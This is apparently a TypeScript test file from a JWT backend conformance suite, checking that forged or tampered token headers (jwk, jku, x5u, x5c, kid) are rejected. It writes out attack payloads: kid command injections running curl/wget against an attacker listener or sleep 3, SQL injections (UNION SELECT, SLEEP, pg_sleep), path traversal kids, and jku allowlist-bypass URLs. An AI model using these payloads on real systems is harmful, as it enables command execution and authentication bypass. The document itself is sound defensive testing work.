// Key material referenced from the header (docs/checks.md#family-KEY): embedded keys, remote key URLs the
// backend must never fetch, and kid values built to reach files, databases or parsers.
import { afterAll, beforeAll, inject } from 'vitest';
import { AttackerListener } from '../harness/attacker/listener.js';
import { family } from '../harness/checks/suite.js';
import { CAUSES, FETCH_WINDOW_MS, expectAllRejected, expectRejectedWithoutFetch } from '../harness/checks/oracle.js';
import type { CheckResult } from '../harness/checks/oracle.js';
import type { Exchange } from '../harness/checks/model.js';
import { selfSignedCertificate } from '../harness/forge/certificates.js';
import { hmacCompact, signCompact } from '../harness/forge/jws.js';
import { attackerKey } from '../harness/forge/keys.js';
import { freshClaims, headerOf, withHeader } from '../harness/forge/token.js';

const { check, persistenceProbe } = family('KEY', { restsOnSignatures: true });

let attacker: AttackerListener;
beforeAll(async () => {
  // Bound and named as the run says (attacker.host, attacker.publicUrl): the engine judges whether the backend reaches it.
  attacker = await AttackerListener.start(inject('conformance').attacker);
});
afterAll(() => attacker?.stop());

/** Rejected, and the attacker listener saw no request under `prefix`; a fetch of a refused token's URL is SSRF (high), not a forgery (critical). */
const rejectedWithoutFetch = (exchanges: Exchange[], prefix: string): Promise<CheckResult> => expectRejectedWithoutFetch(exchanges, attacker, prefix, 'high');

check(
  {
    id: 'KEY-EMBEDDED-JWK',
    title: "A token carrying its own key in the jwk header is rejected",
    severity: 'critical',
    requirement: 'RFC 8725 §3.10 / ASVS 9.1.3: keys come from the trusted JWKS, never from the token.',
    references: ['RFC 7515 §4.1.3', 'RFC 8725 §3.10', 'CVE-2018-0114', 'PortSwigger JWT lab 4', 'jwt_tool -X i'],
    taxonomy: { cwe: ['CWE-347', 'CWE-807'], capec: ['CAPEC-196', 'CAPEC-475'], owaspApi: 'API2:2023' },
    expected: '401 for every key type and kid',
  },
  async ({ claims, token, sendAll }) => {
    const realKid = headerOf(token).kid;
    const variants: [string, string][] = [];
    for (const alg of ['EdDSA', 'ES256', 'RS256'] as const) {
      const key = attackerKey(alg);
      for (const [label, kid] of [['real kid', realKid], ["attacker's kid", 'attacker-key'], ['no kid', undefined]] as const) {
        variants.push([`${alg} jwk in the header, ${label}`, signCompact(alg, key.privateKey, { alg, jwk: key.publicJwk, ...(kid ? { kid } : {}) }, freshClaims(claims))]);
      }
    }
    return expectAllRejected(await sendAll(variants));
  },
  { forgesSignature: true },
);

check(
  {
    id: 'KEY-JKU',
    title: 'A jku header pointing at an attacker JWKS is neither fetched nor trusted',
    severity: 'critical',
    requirement: 'RFC 8725 §3.10: blindly following jku enables SSRF and forgery; keys come from the configured JWKS only.',
    references: ['RFC 7515 §4.1.2', 'RFC 8725 §3.10', 'ASVS 9.1.3', 'PortSwigger JWT lab 5', 'jwt_tool -X s'],
    taxonomy: { cwe: ['CWE-918', 'CWE-347', 'CWE-807'], capec: ['CAPEC-664', 'CAPEC-196'], owaspApi: 'API7:2023' },
    expected: '401 and zero requests to the attacker',
    watchesAttacker: true,
  },
  async ({ claims, token, sendAll }) => {
    const keys = (['EdDSA', 'ES256', 'RS256'] as const).map((alg) => ({ alg, key: attackerKey(alg), kid: `attacker-${alg}` }));
    const jku = attacker.serve('/jku/jwks.json', 'application/json', JSON.stringify({ keys: keys.map((k) => ({ ...k.key.publicJwk, kid: k.kid })) }));
    const variants: [string, string][] = keys.flatMap(({ alg, key, kid }) => [
      [`${alg}, jku to the attacker JWKS, attacker kid`, signCompact(alg, key.privateKey, { alg, kid, jku }, freshClaims(claims))] as [string, string],
      [`${alg}, jku to the attacker JWKS, real kid`, signCompact(alg, key.privateKey, { alg, kid: headerOf(token).kid, jku }, freshClaims(claims))] as [string, string],
    ]);
    return rejectedWithoutFetch(await sendAll(variants), '/jku/');
  },
  { forgesSignature: true, explains: CAUSES.jkuFollowed },
);

check(
  {
    id: 'KEY-JKU-ALLOWLIST-BYPASS',
    title: 'A jku that names the issuer only in its userinfo, path, query or fragment is neither fetched nor trusted',
    severity: 'critical',
    requirement: "RFC 8725 §3.10: a backend that honours jku at all matches the whole URL against an exact allowlist. One that looks for the issuer's host as a prefix or a substring fetches keys from wherever the rest of the URL points.",
    references: ['RFC 8725 §3.10', 'RFC 3986 §3.2.1', 'RFC 7515 §4.1.2', 'PortSwigger JWT attacks (jku allowlist bypass)'],
    taxonomy: { cwe: ['CWE-918', 'CWE-183', 'CWE-347'], capec: ['CAPEC-664', 'CAPEC-196'], owaspApi: 'API7:2023' },
    expected: "401 and zero requests to the attacker for jku URLs of the attacker listener that carry the issuer's JWKS host as userinfo, or its JWKS URL in the path, query or fragment; a fetch alone is FAIL (high: SSRF), an accepted token FAIL (critical)",
    watchesAttacker: true,
  },
  async ({ claims, issuer, sendAll }) => {
    // What an allowlist would name: the JWKS URL the backend was given and the tokens' iss (the harness's
    // view of an external issuer may be a port-forward; iss is what the issuer signs with).
    const trusted = [...new Map([issuer.jwksUrl, claims.iss].filter((u): u is string => typeof u === 'string' && URL.canParse(u)).map((u) => [u, new URL(u)])).values()];
    const hosts = [...new Set(trusted.map((u) => u.host))];
    const listener = new URL(attacker.url);
    const keys = (['EdDSA', 'ES256', 'RS256'] as const).map((alg) => ({ alg, key: attackerKey(alg), kid: `attacker-${alg}` }));
    const body = JSON.stringify({ keys: keys.map((k) => ({ ...k.key.publicJwk, kid: k.kid })) });
    const serve = (path: string) => attacker.serve(path, 'application/json', body);
    const shapes: [string, string][] = [
      // In the listener's scheme, http: an https issuer's own prefix (https://issuer@…) would lead to
      // TLS, which this listener cannot see; a test of the host alone is fooled either way.
      ...hosts.map((host, i): [string, string] => [`${host} as userinfo`, serve(`/jku-bypass/userinfo-${i}.json`).replace(`//${listener.host}`, `//${host}@${listener.host}`)]),
      ...trusted.flatMap((url, i): [string, string][] => [
        [`${url.href} in the path`, serve(`/jku-bypass/path-${i}/${url.host}${url.pathname}`)],
        [`${url.href} in the query`, `${serve(`/jku-bypass/query-${i}.json`)}?allowed=${url.href}`],
        [`${url.href} in the fragment`, `${serve(`/jku-bypass/fragment-${i}.json`)}#${url.href}`],
      ]),
    ];
    const variants = shapes.flatMap(([shape, jku]) => keys.map(({ alg, key, kid }): [string, string] => [`${alg}, jku with ${shape} (${jku})`, signCompact(alg, key.privateKey, { alg, kid, jku }, freshClaims(claims))]));
    const result = await rejectedWithoutFetch(await sendAll(variants), '/jku-bypass/');
    const https = trusted.some((u) => u.protocol === 'https:') ? 'https userinfo (it needs a TLS listener), ' : '';
    return result.verdict === 'PASS' ? { ...result, observed: `${result.observed}. Not tried: ${https}a subdomain of the issuer's host (DNS), an open redirect on the issuer, file:// and cloud metadata addresses (the suite sends nothing off loopback)` } : result;
  },
  // A backend that follows any jku fails here for that reason: KEY-JKU's finding.
  { forgesSignature: true, causes: [CAUSES.jkuFollowed] },
);

check(
  {
    id: 'KEY-X5U',
    title: 'An x5u header pointing at an attacker certificate is neither fetched nor trusted',
    severity: 'critical',
    requirement: 'RFC 7515 §4.1.5 / RFC 8725 §3.10: the certificate URL in a token is attacker-controlled.',
    references: ['RFC 7515 §4.1.5', 'RFC 8725 §3.10', 'JWT Editor (x5u)'],
    taxonomy: { cwe: ['CWE-918', 'CWE-295', 'CWE-807'], capec: ['CAPEC-664', 'CAPEC-196'], owaspApi: 'API7:2023' },
    expected: '401 and zero requests to the attacker',
    watchesAttacker: true,
  },
  async ({ claims, sendAll }) => {
    const cert = await selfSignedCertificate();
    const x5u = attacker.serve('/x5u/cert.pem', 'application/pem-certificate-chain', cert.pem);
    return rejectedWithoutFetch(
      await sendAll([
        ['ES256, x5u to an attacker certificate', signCompact('ES256', cert.privateKey, { alg: 'ES256', x5u }, freshClaims(claims))],
        ['ES256, x5u and an attacker kid', signCompact('ES256', cert.privateKey, { alg: 'ES256', x5u, kid: 'attacker-cert' }, freshClaims(claims))],
      ]),
      '/x5u/',
    );
  },
  { forgesSignature: true },
);

check(
  {
    id: 'KEY-X5C',
    title: 'A token carrying a self-signed certificate chain in x5c is rejected',
    severity: 'critical',
    requirement: 'RFC 7515 §4.1.6 / RFC 8725 §3.10: a chain in the token proves nothing unless it leads to a configured trust anchor.',
    references: ['RFC 7515 §4.1.6', 'RFC 8725 §3.10'],
    taxonomy: { cwe: ['CWE-296', 'CWE-295', 'CWE-347'], capec: ['CAPEC-196', 'CAPEC-475'], owaspApi: 'API2:2023' },
    expected: '401',
  },
  async ({ claims, token, sendAll }) => {
    const cert = await selfSignedCertificate();
    return expectAllRejected(
      await sendAll([
        ['ES256 signed by a self-signed x5c certificate', signCompact('ES256', cert.privateKey, { alg: 'ES256', x5c: [cert.der] }, freshClaims(claims))],
        ['the same with the real kid', signCompact('ES256', cert.privateKey, { alg: 'ES256', x5c: [cert.der], kid: headerOf(token).kid }, freshClaims(claims))],
      ]),
    );
  },
  { forgesSignature: true },
);

check(
  {
    id: 'KEY-KID-TRAVERSAL',
    title: 'kid values naming files are rejected (HMAC keyed with the file content)',
    severity: 'critical',
    requirement: 'RFC 8725 §3.10: kid is attacker-controlled and must not select files.',
    references: ['RFC 7515 §4.1.4', 'PortSwigger JWT lab 6', 'jwt_tool playbook'],
    taxonomy: { cwe: ['CWE-22', 'CWE-347'], capec: ['CAPEC-126', 'CAPEC-196'], owaspApi: 'API2:2023' },
    expected: '401',
  },
  async ({ claims, sendAll }) => {
    const variants: [string, string][] = [];
    // Every path with every content it may yield once read (and perhaps trimmed): empty, "2", "2\n".
    const paths = ['../../../../../../dev/null', '/dev/null', '../../../../../../proc/sys/kernel/randomize_va_space', '/proc/sys/kernel/randomize_va_space', '..\\..\\..\\..\\NUL'];
    for (const kid of paths) {
      for (const secret of ['', '2', '2\n']) {
        variants.push([`kid ${JSON.stringify(kid)}, HS256 keyed with ${JSON.stringify(secret)}`, hmacCompact('HS256', secret, { alg: 'HS256', kid }, freshClaims(claims))]);
      }
    }
    return expectAllRejected(await sendAll(variants));
  },
  { forgesSignature: true },
);

const SQL_ERRORS = /SQL|syntax error|sqlite|postgres|mysql|ORA-\d+|unterminated quoted string/i;
/** How much slower than the harmless kid an injected sleep makes an answer (the payloads sleep 3 s). */
const INJECTED_DELAY_MS = 2_500;
/** Harmless kids sent one after another before the sleeps: the fastest is the baseline. */
const BASELINE_SAMPLES = 3;

check(
  {
    id: 'KEY-KID-CMDI',
    title: 'Shell commands in kid are not run',
    severity: 'critical',
    requirement: 'RFC 8725 §3.10: kid is attacker-controlled; a key lookup that builds a shell command from it runs the attacker\'s commands on the server.',
    references: ['RFC 8725 §3.10', 'jwt_tool playbook (kid injection)', 'PortSwigger JWT attacks (kid)'],
    taxonomy: { cwe: ['CWE-78', 'CWE-347'], capec: ['CAPEC-88'], owaspApi: 'API2:2023' },
    expected: `401 at normal latency (a payload that sleeps 3 s answered ${INJECTED_DELAY_MS / 1000} s slower than a harmless kid, sent alone and again, is FAIL), and no request to the attacker listener from a payload that calls it`,
  },
  async ({ token, target, send, sendAll }): Promise<CheckResult> => {
    const withKid = (kid: string) => withHeader(token, (header) => ({ ...header, kid }));
    const forms: [string, (command: string) => string][] = [
      ['$(…)', (c) => `x$(${c})`],
      ['backticks', (c) => `x\`${c}\``],
      ['; …;', (c) => `x;${c};`],
      ['| …', (c) => `x|${c}`],
      ['&& …', (c) => `x&&${c}`],
    ];
    const callbacks = await sendAll(forms.map(([form, inject], i) => [`kid with ${form} calling the attacker listener`, withKid(inject(`curl -s ${attacker.url}/cmdi/${i} || wget -q -O- ${attacker.url}/cmdi/${i}`))]));
    const called = await attacker.hitsWithin('/cmdi/', FETCH_WINDOW_MS);
    if (called.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: the attacker listener was called ${called.length} time${called.length === 1 ? '' : 's'} (${called.map((h) => h.path).join(', ')})`, measured: { attackerFetches: called.length } };
    // Timing, one request at a time: a server with a few workers would hold a harmless kid sent beside
    // five sleeps behind them, and the baseline would hide them. The fastest of a few harmless kids first.
    const baseline: Exchange[] = [];
    for (let i = 0; i < BASELINE_SAMPLES; i++) baseline.push(await send(`harmless kid #${i + 1} (the baseline)`, withKid(`x-harmless-${i}`)));
    const fastest = Math.min(...baseline.map((e) => e.durationMs));
    const timeoutMs = target.settings.timeoutMs;
    if (fastest + INJECTED_DELAY_MS >= timeoutMs) return { verdict: 'ERROR', observed: `inconclusive: a harmless kid takes ${fastest} ms, too close to the ${timeoutMs} ms timeout to see a 3 s sleep` };
    const sleepTokens = forms.map(([form, inject]) => [`kid with ${form} sleep 3 (time-based)`, withKid(inject('sleep 3'))] as const);
    const sleeps: Exchange[] = [];
    for (const [label, sleeping] of sleepTokens) sleeps.push(await send(label, sleeping));
    const delayed = (e: Exchange) => e.durationMs - fastest >= INJECTED_DELAY_MS || (e.outcome === 'transport-error' && /timeout|aborted/i.test(e.error ?? ''));
    const measured = { baselineMs: fastest, slowestMs: Math.max(...sleeps.map((e) => e.durationMs)) };
    // A sleep that ran delays its answer every time; a pause of the machine or the backend does not come back on cue.
    const suspects = sleepTokens.filter((_, i) => delayed(sleeps[i]!));
    const confirmed: Exchange[] = [];
    for (const [label, sleeping] of suspects) {
      const again = await send(`${label}, again`, sleeping);
      if (delayed(again)) confirmed.push(again);
    }
    if (confirmed.length) return { verdict: 'FAIL', observed: `commands in kid ran on the server: ${confirmed.map((e) => `"${e.label}" took ${e.durationMs} ms`).join(', ')}, against ${fastest} ms for a harmless kid (timeout ${timeoutMs} ms)`, measured, ownSignal: true };
    const result = expectAllRejected([...callbacks, ...sleeps]);
    if (result.verdict !== 'PASS') return { ...result, measured };
    const unconfirmed = suspects.length ? `; ${suspects.length} slow answer${suspects.length === 1 ? '' : 's'} did not recur` : '';
    return { ...result, observed: `${result.observed}; no payload called the attacker listener, and no sleep delayed an answer beyond ${fastest} ms for a harmless kid (slowest ${measured.slowestMs} ms)${unconfirmed}`, measured };
  },
);

check(
  {
    id: 'KEY-KID-SQLI',
    title: 'SQL injection through kid gets no key, no database error and no delay',
    severity: 'critical',
    requirement: 'RFC 8725 §3.10: kid is attacker-controlled; looking it up must not be injectable.',
    references: ['RFC 8725 §3.10', 'jwt_tool playbook'],
    taxonomy: { cwe: ['CWE-89', 'CWE-347'], capec: ['CAPEC-66'], owaspApi: 'API2:2023' },
    expected: '401 at normal latency, no database error in the body',
  },
  async ({ claims, target, sendAll }): Promise<CheckResult> => {
    const hs = (key: string, kid: string) => hmacCompact('HS256', key, { alg: 'HS256', kid }, freshClaims(claims));
    const exchanges = await sendAll([
      ["kid x' UNION SELECT '1';-- with HS256 key \"1\"", hs('1', "x' UNION SELECT '1';--")],
      ["kid x' UNION SELECT 'secret' -- with HS256 key \"secret\"", hs('secret', "x' UNION SELECT 'secret' -- ")],
      ["kid ' (error-based)", hs('1', "'")],
      ["kid x' AND SLEEP(3)-- - (time-based, MySQL)", hs('1', "x' AND SLEEP(3)-- -")],
      ["kid x'; SELECT pg_sleep(3);-- (time-based, PostgreSQL)", hs('1', "x'; SELECT pg_sleep(3);--")],
    ]);
    // The same keys under a harmless kid: an injection gets in only where these do not (own signal);
    // where they get in too, the backend accepts weak HMAC keys or no signature at all, which
    // SIG-WEAK-HMAC and SIG-UNVERIFIED report.
    const harmless = await sendAll([
      ['harmless kid "x" with HS256 key "1"', hs('1', 'x')],
      ['harmless kid "x" with HS256 key "secret"', hs('secret', 'x')],
    ]);
    const keyOf = (label: string) => (label.includes('"secret"') ? 'secret' : '1');
    const harmlessAccepted = new Set(harmless.filter((e) => e.outcome === 'accepted').map((e) => keyOf(e.label)));
    const injected = exchanges.filter((e) => e.outcome === 'accepted' && !harmlessAccepted.has(keyOf(e.label)));
    if (injected.length) return { verdict: 'FAIL', observed: `accepted through the kid alone: ${injected.map((e) => `"${e.label}"`).join(', ')}, while the same key under a harmless kid is refused`, measured: { slowestMs: Math.max(...exchanges.map((e) => e.durationMs)) } };
    const masked = exchanges.filter((e) => e.outcome === 'accepted');
    const result = masked.length ? expectAllRejected(exchanges.filter((e) => e.outcome !== 'accepted')) : expectAllRejected(exchanges);
    const slowest = Math.max(...exchanges.map((e) => e.durationMs));
    const measured = { slowestMs: slowest };
    if (result.verdict === 'FAIL') return { ...result, measured };
    // The sleeping variants are compared with the others of the same concurrent batch, which saw the same load.
    const timeBased = exchanges.filter((e) => e.label.includes('time-based'));
    const baseline = Math.max(...exchanges.filter((e) => !timeBased.includes(e)).map((e) => e.durationMs));
    const delayed = timeBased.filter((e) => e.durationMs - baseline >= 2_500 || (e.outcome === 'transport-error' && /timeout|aborted/i.test(e.error ?? '')));
    if (delayed.length) return { verdict: 'FAIL', observed: `time-based injection suspected: ${delayed.map((e) => `${e.label} took ${e.durationMs} ms`).join('; ')}, the others at most ${baseline} ms (timeout ${target.settings.timeoutMs} ms)`, measured };
    const dbErrors = exchanges.filter((e) => SQL_ERRORS.test(e.response?.bodyExcerpt ?? ''));
    if (dbErrors.length) return { verdict: 'FAIL', observed: `database errors in the response to ${dbErrors.map((e) => e.label).join(', ')}`, measured };
    if (masked.length) {
      return {
        verdict: 'INFO',
        observed: `no injection signal: ${masked.length} injected kids were accepted, but so is the same HS256 key under a harmless kid, so acceptance says nothing about the kid lookup (SIG-WEAK-HMAC or SIG-UNVERIFIED reports it); no database error, no delay (slowest ${slowest} ms)`,
        measured,
        causes: [CAUSES.signaturesUnverified],
      };
    }
    return { ...result, observed: `${result.observed}; slowest ${slowest} ms`, measured };
  },
);

check(
  {
    id: 'KEY-KID-UNKNOWN',
    title: 'A token with an unknown kid, signed by an attacker key, is rejected',
    severity: 'high',
    requirement: 'RFC 7517 §4.5: kid selects a key of the trusted set; no match means no key.',
    references: ['RFC 7517 §4.5'],
    taxonomy: { cwe: ['CWE-347'], capec: ['CAPEC-196', 'CAPEC-475'], owaspApi: 'API2:2023' },
    expected: '401',
  },
  async ({ claims, issuer, sendAll }) => {
    const alg = issuer.algorithms[0]!;
    const key = attackerKey(alg === 'EdDSA' || alg === 'ES256' || alg === 'RS256' ? alg : 'EdDSA');
    return expectAllRejected(await sendAll([[`${key.alg}, random kid, attacker signature`, signCompact(key.alg, key.privateKey, { alg: key.alg, kid: `k-${crypto.randomUUID()}` }, freshClaims(claims))]]));
  },
  { forgesSignature: true },
);

check(
  {
    id: 'KEY-KID-ODD-TYPES',
    title: 'kid values of odd types or sizes are rejected without a crash',
    severity: 'medium',
    requirement: 'RFC 7515 §4.1.4: kid is a string; other values must be rejected cleanly, never skip verification.',
    references: ['RFC 7515 §4.1.4', 'jwt_tool er mode'],
    taxonomy: { cwe: ['CWE-1287', 'CWE-248', 'CWE-347'], capec: [], owaspApi: 'API2:2023' },
    expected: '401 (header changed, original signature kept), never 5xx',
  },
  async ({ token, sendAll }) => {
    const kids: [string, unknown][] = [
      ['a number', 1],
      ['an object', { kid: headerOf(token).kid }],
      ['an array', [headerOf(token).kid]],
      ['null', null],
      ['""', ''],
      ['8 KB string', 'k'.repeat(8192)],
      ['Unicode', 'ключ-🔑'],
      ['__proto__', '__proto__'],
      ['constructor', 'constructor'],
    ];
    return expectAllRejected(await sendAll(kids.map(([label, kid]) => [`kid = ${label}`, withHeader(token, (h) => ({ ...h, kid }))])));
  },
  { forgesSignature: true },
);

check(
  {
    id: 'KEY-KID-ABSENT-SINGLE',
    needs: ['mint'],
    title: 'A valid token without kid (measured: accepted or not)',
    severity: 'info',
    requirement: 'RFC 7515 §4.1.4: kid is optional; with one key of the algorithm a verifier may use it. Better Auth always sets kid; its own verifier requires it.',
    references: ['RFC 7515 §4.1.4', 'OIDF kid-absent-single-jwks', 'better-auth#7416'],
    taxonomy: { cwe: ['CWE-1023'], capec: [], owaspApi: 'API2:2023' },
    expected: 'INFO: either behaviour is reported',
  },
  async ({ claims, issuer, send }) => {
    const alg = issuer.algorithms[0]!;
    const { token } = await issuer.sign({ header: { alg }, claims: freshClaims(claims) });
    const exchange = await send(`${alg} token from the current key, no kid`, token);
    if (exchange.outcome === 'transport-error') return { verdict: 'ERROR', observed: `no answer: ${exchange.error}` };
    const accepted = exchange.outcome === 'accepted';
    return { verdict: 'INFO', observed: accepted ? 'accepted: the backend picks the only key of the algorithm' : `rejected (${exchange.response!.status}): a kid is required`, measured: { accepted: String(accepted) } };
  },
);

persistenceProbe();
